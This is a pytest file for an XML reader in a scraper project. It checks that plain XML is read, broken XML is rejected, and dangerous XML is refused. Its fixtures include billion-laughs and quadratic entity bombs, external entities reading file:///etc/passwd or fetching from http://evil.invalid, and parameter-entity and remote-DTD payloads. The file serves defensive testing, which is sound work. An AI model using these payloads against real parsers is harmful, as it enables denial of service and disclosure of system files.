"""XML that is well-formed, broken, or out to harm."""

from __future__ import annotations

from contextlib import nullcontext

import pytest

from scrapers.safe_xml import MAX_BYTES, BadXml, UnsafeXml, check_xml, read_xml


def doc(subset: str, content: str = "&x;") -> bytes:
    return f"<!DOCTYPE day [{subset}]><day>{content}</day>".encode()


@pytest.mark.parametrize(
    ("body", "text"),
    [
        (b"<day>plain</day>", "plain"),
        (b"\xef\xbb\xbf<day>plain</day>", "plain"),
        ("<day>café</day>".encode("utf-16"), "café"),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?><day>caf\xe9</day>', "café"),
        (b'<?xml version="1.0" encoding="windows-1252"?><day>it\x92s</day>', "it’s"),
        (doc('<!ENTITY mdash "&#8212;">', "a &mdash; b"), "a — b"),
        (doc('<!ENTITY x "&#xA3;" >'), "£"),
        (doc('<!ENTITY amp "&#38;#38;"><!ENTITY lt "&#38;#60;">', "&lt;&amp;"), "<&"),
    ],
)
def test_harmless_xml_is_read(body: bytes, text: str) -> None:
    assert "".join(read_xml(body).itertext()) == text


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   ",
        b"<day>",
        b"<day></night>",
        b"<a/><b/>",
        b"<day>&nbsp;</day>",
        b"<day>\x00</day>",
        b"no markup",
    ],
)
def test_broken_xml_is_bad(body: bytes) -> None:
    with pytest.raises(BadXml, match="not well-formed"):
        read_xml(body)


@pytest.mark.parametrize("encoding", ["klingon", "shift_jis"])
def test_an_encoding_that_cannot_be_read_is_bad(encoding: str) -> None:
    with pytest.raises(BadXml, match="encoding"):
        read_xml(f'<?xml version="1.0" encoding="{encoding}"?><day>x</day>'.encode())


BILLION_LAUGHS = '<!ENTITY x0 "ha">' + "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        pytest.param(doc(BILLION_LAUGHS, "&x9;"), "made of other entities", id="billion laughs"),
        pytest.param(
            doc(f'<!ENTITY x "{"A" * 50_000}">', "&x;" * 50_000), "50000 characters", id="quadratic"
        ),
        pytest.param(
            doc('<!ENTITY x SYSTEM "file:///etc/passwd">'), "read from 'file:///etc/passwd'", id="file"
        ),
        pytest.param(doc('<!ENTITY x SYSTEM "http://evil.invalid/x">'), "http://evil.invalid/x", id="http"),
        pytest.param(doc('<!ENTITY x PUBLIC "p" "http://evil.invalid/x">'), "evil.invalid", id="public"),
        pytest.param(
            doc('<!ENTITY % p SYSTEM "http://evil.invalid/d">%p;', ""), "parameter entity", id="parameter"
        ),
        pytest.param(doc('<!ENTITY % p "x">', ""), "parameter entity", id="inner parameter"),
        pytest.param(doc('<!ENTITY x "<b>bold</b>">'), "of markup", id="markup"),
        pytest.param(
            doc('<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "file:///etc/passwd" NDATA n>', ""),
            "outside the file",
            id="unparsed",
        ),
        pytest.param(
            doc("".join(f'<!ENTITY x{n} "x">' for n in range(401)), ""), "more than 400", id="many entities"
        ),
        pytest.param(
            b'<!DOCTYPE day SYSTEM "http://evil.invalid/day.dtd"><day/>', "DTD would be read", id="dtd"
        ),
        pytest.param(b"<day>" * 2000 + b"</day>" * 2000, "100 deep", id="deep"),
    ],
)
def test_dangerous_xml_is_refused(body: bytes, reason: str) -> None:
    with pytest.raises(UnsafeXml, match=reason):
        read_xml(body)


def test_a_file_of_absurd_size_is_refused_unread() -> None:
    with pytest.raises(UnsafeXml, match="more than the"):
        read_xml(b"<" * (MAX_BYTES + 1))


@pytest.mark.parametrize(
    ("body", "error"),
    [(b"<a>", BadXml), (b"<a>" * 101 + b"</a>" * 101, UnsafeXml), (b"<a>words<b/></a>", None)],
)
def test_a_file_can_be_checked_without_keeping_it(body, error):
    with pytest.raises(error) if error else nullcontext():
        check_xml(body)
